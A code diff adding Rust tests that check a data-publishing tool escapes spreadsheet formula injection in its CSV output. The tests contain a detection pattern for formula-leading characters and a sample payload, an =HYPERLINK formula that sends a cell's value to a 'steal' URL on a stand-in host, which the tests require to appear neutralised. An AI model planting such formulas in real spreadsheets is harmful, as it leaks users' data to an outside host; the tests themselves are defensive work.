@@ -154,3 +154,50 @@ fn script_urls_in_url_fields_are_refused_with_located_errors() {
     }
     assert!(!out.exists(), "nothing is written");
 }
+
+/// Every text cell of every published CSV that a spreadsheet would read as a formula.
+fn formula_cells(out: &Path) -> Vec<String> {
+    let mut found = Vec::new();
+    for name in ["tasks", "targets", "progress"] {
+        let text = fs::read_to_string(out.join(format!("data/{name}.csv"))).unwrap();
+        let text = text.trim_start_matches('\u{feff}');
+        let mut rdr = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+        let header = rdr.headers().unwrap().clone();
+        for (i, rec) in rdr.records().enumerate() {
+            for (col, cell) in header.iter().zip(rec.unwrap().iter()) {
+                if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                    found.push(format!("{name}.csv row {} {col}: {cell}", i + 2));
+                }
+            }
+        }
+    }
+    found
+}
+
+#[test]
+fn published_csvs_start_no_cell_with_a_formula_and_say_why_text_has_an_apostrophe() {
+    let tmp = tempfile::tempdir().unwrap();
+    let out = tmp.path().join("public");
+    build(&hostile(), &out);
+    let tasks = fs::read_to_string(out.join("data/tasks.csv")).unwrap();
+    // The title is there, as text a spreadsheet shows and does not run.
+    assert!(
+        tasks.contains("'=HYPERLINK(\"\"http://example.org/steal?x=\"\"&A1"),
+        "{tasks}"
+    );
+    assert_eq!(formula_cells(&out), Vec::<String>::new());
+    // Numbers stay numbers: the target value is written as a plain 10.
+    let targets = fs::read_to_string(out.join("data/targets.csv")).unwrap();
+    let row = targets.lines().find(|l| l.contains(",3-1,")).unwrap();
+    assert!(
+        row.contains("'@SUM(1+1)") && row.contains(",'-2+3,") && row.contains(",10,"),
+        "{row}"
+    );
+    let page = fs::read_to_string(out.join("data/index.html")).unwrap();
+    assert!(
+        page.contains("id=\"formula-safety\""),
+        "the data page explains the apostrophe"
+    );
+    let pkg = fs::read_to_string(out.join("data/datapackage.json")).unwrap();
+    assert!(pkg.contains("公式注入"), "{pkg}");
+}
